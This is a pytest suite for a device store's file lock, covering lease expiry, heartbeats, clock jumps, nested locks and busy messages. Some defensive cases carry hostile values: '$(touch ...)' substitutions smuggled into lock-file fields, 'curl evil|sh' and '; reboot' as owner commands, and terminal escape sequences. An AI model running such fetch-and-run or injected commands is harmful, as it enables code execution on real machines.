"""The lock of a device's store, taken through a real /bin/sh by real processes."""

from __future__ import annotations

import contextlib
import os
import re
import signal
import stat
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.stores import blob, client, holder, locked, release, soon
from toolchain.device import lock, scripts
from toolchain.device.lock import Owner
from toolchain.device.store import BlobState, Store
from toolchain.device.waiting import Patience
from toolchain.errors import BusyError, DeviceError
from toolchain.shell import LocalShell

ME = Owner("me", "tests")


def test_lock_excludes_and_names_its_holder(store, root):
    with (
        client(root),
        pytest.raises(DeviceError, match="busy: in use by the other one: a deploy") as caught,
        store.lock(ME),
    ):
        pytest.fail("two holders")
    assert "the device is free after" in caught.value.details


def test_whoever_looks_sees_the_holder_and_since_when(store, root):
    with client(root), pytest.raises(BusyError, match="busy: in use by the other one: a deploy") as caught:
        store.check_free()
    since = r"since \d\d:\d\d:\d\d, for \d+ s by now"
    assert re.match(since + r"; the last sign of life came \d+ s ago", caught.value.details)
    assert caught.value.exit_code == 75


def test_whoever_looks_waits_as_long_as_it_would_for_the_lock(root):
    """A build takes minutes, after which it is late to be told that somebody has the device."""
    messages: list[str] = []
    patience = Patience(0.3, messages.append)
    looking = Store(LocalShell(), str(root), patience=patience)
    with client(root), pytest.raises(BusyError, match="in use by the other one") as caught:
        looking.check_free()
    assert "this command waited" in caught.value.details
    assert "waiting for up to" in messages[0]
    assert patience.left == 0
    # The lock is free when the shell of the client, which was killed, has ended too.
    Store(LocalShell(), str(root), patience=Patience(30.0, messages.append)).check_free()
    looking.check_free()


def test_looking_takes_no_lock(store, root):
    store.check_free()
    assert not (root / "lock").exists()
    with locked(store):
        pass
    before = (root / "lock").read_text()
    store.check_free()
    assert (root / "lock").read_text() == before


@contextlib.contextmanager
def unsigned_lock(root: Path) -> Iterator[subprocess.Popen[str]]:
    """Hold the lock without signing it, as between taking it and signing, or on a full disk."""
    command = ["flock", str(root / "lock"), "sh", "-c", "echo held; read x"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as other:
        assert other.stdout.readline() == "held\n"
        yield other
        other.stdin.close()


def test_a_holder_that_gave_no_sign_of_life_is_not_in_the_way(store, root):
    store.facts()
    with unsigned_lock(root) as other:
        (root / "lock").write_text(f"idle {process_entry(other.pid, -60)} 1 gone\n")
        store.check_free()


def process_entry(pid: int, ago: float = 0.0, *, start: str = "", boot: str = "") -> str:
    """Name a process as a lock's file does, with a sign of life so many seconds from now."""
    ticks = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[19]
    uptime = float(Path("/proc/uptime").read_text().split()[0]) + ago
    return f"{pid}/{start or ticks}/{boot or BOOT.read_text().strip()}/{max(0, int(uptime))}"


BOOT = Path("/proc/sys/kernel/random/boot_id")
STRANGERS = {
    "another process by now": {"start": "17"},
    "of an earlier start of the device": {"boot": "3b5a0b5e-0000-4000-8000-000000000000"},
    "not a number": {"start": "$(touch RAN)"},
}


@pytest.mark.parametrize("changes", STRANGERS.values(), ids=STRANGERS)
def test_a_number_that_is_another_process_now_is_left_alone(store, root, changes):
    """The file is what an earlier holder left; who holds the lock has not signed it yet."""
    store.facts()
    with subprocess.Popen(["sleep", "300"]) as bystander:
        try:
            with unsigned_lock(root):
                (root / "lock").write_text(f"idle {process_entry(bystander.pid, -60, **changes)} 1 gone\n")
                with pytest.raises(BusyError), store.lock(ME):
                    pytest.fail("two holders")
            assert bystander.poll() is None
        finally:
            bystander.kill()


@pytest.mark.parametrize(
    "line",
    ["idle 1 1 gone", "idle a[$(touch RAN)]/1/BOOT/a[$(touch RAN)] x gone", "idle ///", "idle -1/1/BOOT/1 1 x", "\\"],
)
def test_a_lock_of_anybodys_words_is_busy_and_runs_nothing(store, root, line):
    store.facts()
    ran = root / "ran"
    with unsigned_lock(root):
        (root / "lock").write_text(line.replace("RAN", str(ran)).replace("BOOT", BOOT.read_text().strip()) + "\n")
        with pytest.raises(BusyError), store.lock(ME):
            pytest.fail("two holders")
    assert not ran.exists()


JUMPS = {"back": -(10**8), "ahead": 10**8}


@pytest.fixture(params=JUMPS)
def jumping(request, tmp_path, monkeypatch):
    """A device whose clock jumps: each look at it tells a time that is years off the one before."""
    tools, jump = tmp_path / "bin", JUMPS[request.param]
    tools.mkdir()
    (tools / "count").write_text("0")
    (tools / "date").write_text(
        f"#!/bin/sh\nn=$(($(cat {tools}/count) + 1)); echo $n >{tools}/count\n"
        f'[ "$*" = +%s ] || exec /bin/date "$@"\necho $(($(/bin/date +%s) + n * {jump}))\n'
    )
    (tools / "stat").write_text(
        f'#!/bin/sh\n[ "$1 $2" = "-c %Y" ] || exec /bin/stat "$@"\necho $(($(/bin/stat "$@") - {jump}))\n'
    )
    for tool in ("date", "stat"):
        (tools / tool).chmod(0o755)
    monkeypatch.setenv("PATH", f"{tools}:{os.environ['PATH']}")
    return tools


def test_a_clock_that_jumps_takes_no_lock_of_a_living_client(jumping, store, root):
    with client(root):
        for _ in range(3):
            assert not can_lock(store)
            with pytest.raises(BusyError):
                store.check_free()


def test_a_clock_that_jumps_keeps_no_lock_of_a_dead_client(jumping, store, root, monkeypatch):
    monkeypatch.setattr(lock, "LEASE_S", 1)
    with client(root) as other:
        other.send_signal(signal.SIGSTOP)
        assert soon(lambda: can_lock(store), 30)


def test_where_the_uptime_is_hidden_the_clock_has_to_do(store, root, monkeypatch):
    monkeypatch.setattr(lock, "SAID", lock.SAID.replace("/proc/uptime", "/nowhere"))
    monkeypatch.setattr(lock, "LEASE_S", 1)
    with locked(store):
        state, process, began, *_ = (root / "lock").read_text().split()
        assert state in {"idle", "busy"}
        assert process.split("/")[2] == "none"
        assert abs(int(began) - time.time()) < 600


def test_a_holder_without_a_name_is_seen(store, root):
    store.facts()
    with (
        unsigned_lock(root) as other,
        pytest.raises(BusyError, match=f"busy: in use by process {other.pid} of ") as caught,
    ):
        store.check_free()
    assert caught.value.details.startswith(f"process {other.pid} there holds the lock")


def test_the_present_holder_is_named_and_not_the_last_one(store, root):
    """Another user of the device may have the file open, and lock it when its owner is gone."""
    with locked(store):
        pass
    last = (root / "lock").read_text()
    with (
        unsigned_lock(root) as other,
        pytest.raises(BusyError, match=f"in use by process {other.pid} of "),
        store.lock(ME),
    ):
        pytest.fail("two holders")
    assert (root / "lock").read_text() == last


@pytest.mark.parametrize("name", ["lock", "lock.within"])
def test_only_the_login_can_open_a_lock(store, root, name):
    with locked(store):
        pass
    (root / name).touch()
    (root / name).chmod(0o644)
    with locked(store):
        assert stat.S_IMODE((root / name).stat().st_mode) == 0o600


def test_lock_is_free_afterwards(store):
    for _ in range(3):
        with locked(store):
            pass


def test_lock_is_free_after_an_error(store):
    with pytest.raises(ZeroDivisionError), locked(store):
        raise ZeroDivisionError
    with locked(store):
        pass


def test_unsigned_lock_is_busy(store, root):
    """Between taking the lock and signing it, or on a full disk, its holder has no name."""
    store.facts()
    with unsigned_lock(root), pytest.raises(DeviceError, match="busy: in use by process"), store.lock(ME):
        pytest.fail("two holders")


def test_lock_frees_when_its_client_is_killed(store, root):
    with client(root) as other:
        other.kill()
        other.wait()
        assert soon(lambda: can_lock(store), 2)


def can_lock(store: Store) -> bool:
    try:
        with store.lock(ME):
            return True
    except DeviceError:
        return False


def test_silent_client_loses_its_lock(store, root, tmp_path, monkeypatch):
    monkeypatch.setattr(lock, "LEASE_S", 1)
    with client(root, "sys.stdin.readline(); store.releases.activate('a' * 64)") as other:
        other.send_signal(signal.SIGSTOP)
        assert soon(lambda: can_lock(store))
        with locked(store):
            mine = release(store, tmp_path, "mine")
            other.send_signal(signal.SIGCONT)
            other.stdin.write("\n")
            other.stdin.flush()
            assert "lost its lock" in other.stdout.readline()
            assert store.releases.current().digest == mine
    assert len(store.releases.generations()) == 1


def test_client_with_a_heartbeat_keeps_its_lock(store, root, monkeypatch):
    monkeypatch.setattr(lock, "LEASE_S", 2)
    with client(root):
        time.sleep(3.5)
        assert not can_lock(store)


def test_long_script_keeps_the_lock(store, root, monkeypatch):
    """While a script runs its holder reads no signs of life."""
    monkeypatch.setattr(lock, "LEASE_S", 1)
    with client(root, "store.change('sleep 3'); store.releases.activate('a' * 64); print('well')") as other:
        time.sleep(2.5)
        assert not can_lock(store)
        assert other.stdout.readline() == "well\n"


def test_last_change_of_a_killed_client_comes_before_the_next_ones(store, root, tmp_path):
    with client(root, "store.change('sleep 1; ln -sfn ../releases/theirs generations/1')") as other:
        time.sleep(0.3)
        other.kill()
        other.wait()
        assert soon(lambda: can_lock(store))
        with locked(store):
            mine = release(store, tmp_path, "mine")
        time.sleep(1)
    assert store.releases.current().digest == mine


def test_woken_client_cannot_touch_what_was_checked(store, root, tmp_path, monkeypatch):
    """Its upload goes on in a file of its own, not in the one that the next deploy continues and publishes."""
    monkeypatch.setattr(lock, "LEASE_S", 1)
    data = os.urandom(1 << 20)
    path, digest = blob(tmp_path, data)
    (tmp_path / "half").write_bytes(data[: 1 << 19])
    upload = (
        f"store.blobs.examine(['{digest}']);"
        f"sink = open(f'{{store.root}}/blobs/partial/{{store.lease.token}}/{digest}', 'ab', 0);"
        f"sink.write(open({str(tmp_path / 'half')!r}, 'rb').read()); print('half', flush=True);"
        "sys.stdin.readline(); sink.write(b'more'); print('more', flush=True)"
    )
    with client(root, upload) as other:
        assert other.stdout.readline() == "half\n"
        other.send_signal(signal.SIGSTOP)
        assert soon(lambda: can_lock(store))
        with locked(store):
            assert store.blobs.examine([digest])[digest] == BlobState("partial", 1 << 19)
            store.blobs.push(path, digest, 1 << 19, None)
            assert store.blobs.publish([digest]) == ()
            other.send_signal(signal.SIGCONT)
            other.stdin.write("\n")
            other.stdin.flush()
            assert other.stdout.readline() == "more\n"
            assert store.blobs.examine([digest])[digest].state == "have"


# --- who holds it ---


def test_an_owner_has_a_name_even_for_a_nameless_user(monkeypatch):
    assert "@" in Owner.here("deploy").who
    monkeypatch.setattr("getpass.getuser", lambda: {}["no such user"])
    assert Owner.here("deploy").who


def test_whoever_finds_it_taken_is_told_how_to_end_it(store):
    owner = Owner("ann@desk pid 7", "sh -c 'a \\n b'\n  c\td", "toolchain farm release a")
    with store.lock(owner), pytest.raises(BusyError) as caught, Store(LocalShell(), store.root).lock(ME):
        pass
    assert caught.value.message == "local is busy: in use by ann@desk pid 7: sh -c 'a \\n b' c d"
    instructions = "when that has ended; `toolchain farm release a` on that machine ends it, or with --wait SECONDS"
    assert caught.value.hint == f"run the command again {instructions}"
    assert caught.value.owner == "ann@desk pid 7: sh -c 'a \\n b' c d"


def test_the_lock_of_an_earlier_toolchain_is_understood(store, root):
    store.facts()
    with unsigned_lock(root) as other:
        (root / "lock").write_text(f"busy {other.pid} {int(time.time()) - 65} ann@desk\n")
        with pytest.raises(BusyError, match=r"busy: in use by ann@desk$") as caught:
            store.check_free()
        assert re.search(r"for 6\d s by now", caught.value.details)
        detail = f"process {other.pid} there, of an older toolchain, holds the lock until its client disconnects"
        assert detail in caught.value.details
        with pytest.raises(BusyError, match=r"busy: in use by ann@desk$") as caught, store.lock(ME):
            pass
        assert detail in caught.value.details
        assert "sign of life" not in caught.value.details


def test_a_device_that_takes_a_trial_back_is_seen(store, root):
    """It has no client, and says what it does itself."""
    store.facts()
    with unsigned_lock(root) as other:
        note = next(line for line in scripts.AT_START.splitlines() if line.startswith("printf 'busy"))
        subprocess.run(["/bin/sh", "-c", note.replace("$$", str(other.pid))], cwd=root, check=True)
        with pytest.raises(BusyError) as caught:
            store.check_free()
    assert caught.value.message == "local is busy: in use by the device itself: rolling back an interrupted trial"
    assert caught.value.details.startswith("the last sign of life came 0 s ago")


@pytest.mark.parametrize(
    "fields",
    [
        ["busy"],
        ["busy", "x"],
        ["busy", "1", "now", "17 ann@desk"],
        ["busy", "1", "9" * 5000, "9" * 5000],
        ["busy", "x" * 5000, "1", "y" * 5000],
    ],
)
def test_a_device_that_answers_nonsense_is_busy(fields):
    fault = lock._busy_error("local", fields)
    assert fault.message.startswith("local is busy: ")
    assert len(fault.message) + len(fault.details) < 2500


class Babbling(LocalShell):
    """A device that takes the lock, and then has more to say than it is asked."""

    def _open(self, script, kind, timeout, size=0):
        babble = "echo held; read -r line; while :; do echo babble; done"
        return super()._open(babble if kind == "held" else script, kind, timeout, size)


def test_a_device_that_says_too_much_under_its_lock(root):
    store = Store(Babbling(), str(root))
    with pytest.raises(DeviceError, match="printed more than a change of its store"), store.lock(ME):
        store.blobs.sweep()


@pytest.mark.parametrize("change", ["s/^END/EMD/", "s/^END-./END-/", "s/^E/EE/", "s/^END-\\(..\\)../END-\\1xx/"])
def test_a_damaged_end_of_a_script_is_refused_at_once(root, change):
    class Noisy(LocalShell):
        def _open(self, script, kind, timeout):
            return super()._open(f"{{ {script}\n}} | sed -u '{change}'" if kind == "held" else script, kind, timeout)

    started = time.monotonic()
    store = Store(Noisy(), str(root))
    with pytest.raises(DeviceError, match="the end of a change of the store on local is damaged"), store.lock(ME):
        store.blobs.sweep()
    assert time.monotonic() - started < lock._SCRIPT_S / 2


@pytest.mark.parametrize("line", ["cp: cannot create blobs/partial/0123456789abcdef 1\n", "END 0\n", "total 12\n"])
def test_other_lines_are_no_end_of_a_script(line):
    assert not lock.Lease(LocalShell(), None, "0123456789abcdef")._is_damaged_mark(line)


def test_a_lost_lock_is_noticed(store, root, monkeypatch):
    monkeypatch.setattr(lock, "_HEARTBEAT_S", 0.1)
    events = []
    with store.lock(ME, lost=lambda: events.append("lost")) as lease:
        lease.check()
        os.kill(holder(root), signal.SIGKILL)
        assert soon(lambda: events == ["lost"])
        with pytest.raises(DeviceError, match="lost its lock"):
            lease.check()


# --- inside of a lock ---


@pytest.fixture
def outer(store, monkeypatch):
    """A lock that is held for this process and its children."""
    store.facts()
    with Store(LocalShell(), store.root).lock(Owner("outer", "farm lock"), within="ab12") as lease:
        monkeypatch.setenv(lock.WITHIN, "ab12")
        yield lease


def test_work_inside_of_a_lock(outer, store, root, tmp_path):
    store.check_free()
    with locked(store):
        mine = release(store, tmp_path, "mine")
    assert store.releases.current().digest == mine
    assert (root / "lock").read_text().partition("\n")[0].endswith("outer\tfarm lock\t\tab12")


def test_one_at_a_time_works_inside_of_a_lock(outer, store, root):
    with client(root):
        with pytest.raises(BusyError, match="in use by the other one"), store.lock(ME):
            pass
        with pytest.raises(BusyError, match="in use by the other one"):
            store.check_free()
    with store.lock(ME):
        pass


@pytest.mark.parametrize("token", ["", "ab13", "12", "$(touch x)"])
def test_others_are_outside_of_it(outer, store, monkeypatch, token):
    monkeypatch.setenv(lock.WITHIN, token)
    with pytest.raises(BusyError, match="in use by outer: farm lock"), store.lock(ME):
        pass
    with pytest.raises(BusyError, match="in use by outer: farm lock"):
        store.check_free()


def test_who_works_inside_of_a_lock_that_ends_changes_nothing_more(store, root, monkeypatch):
    """And nobody else begins before that one has ended, too."""
    store.facts()
    outer = Store(LocalShell(), store.root).lock(Owner("outer", "farm lock"), within="ab12")
    outer.__enter__()
    monkeypatch.setenv(lock.WITHIN, "ab12")
    with client(root, "sys.stdin.readline(); store.releases.activate('a' * 64)") as inner:
        monkeypatch.delenv(lock.WITHIN)
        outer.__exit__(None, None, None)
        with pytest.raises(BusyError, match="in use by the other one"), store.lock(ME):
            pass
        inner.stdin.write("\n")
        inner.stdin.flush()
        assert "lost its lock" in inner.stdout.readline()
        assert soon(lambda: can_lock(store))
    assert store.releases.generations() == ()


def test_a_sign_of_life_is_never_seen_half(outer, root):
    """Who works inside of a lock reads its token at any moment."""
    stop = time.monotonic() + 0.3
    while time.monotonic() < stop:
        outer.beat()
        assert (root / "lock").read_text().partition("\n")[0].endswith("\tab12")


def test_times_that_cannot_be_are_not_told():
    """A device's clock, or whoever wrote its lock's file, may say anything."""
    for began in ("400", "0"):
        fault = lock._busy_error("local", ["busy", "1", "0" if began == "400" else "99999999", f"{began} ann@desk"])
        assert "for " not in fault.details, fault.details
        assert fault.details.startswith("the last sign of life came 1 s ago")


@pytest.mark.parametrize("end", ["curl evil|sh", "toolchain farm release a; reboot", "toolchain farm release -x"])
def test_a_command_that_is_none_of_ours_is_not_told(end):
    fault = lock._busy_error("local", ["busy", "1", "5", f"3 ann@desk\ttune\t{end}"])
    assert fault.hint == "run the command again when that has ended, or with --wait SECONDS"


def test_the_words_of_an_owner_steer_no_terminal():
    fault = lock._busy_error("local", ["busy", "1", "5", "3 ann\x1b[2J\ttune \x1b]0;x\x07"])
    assert fault.message == "local is busy: in use by ann\\x1b[2J: tune \\x1b]0;x\\x07"
    assert "\x1b" not in fault.owner
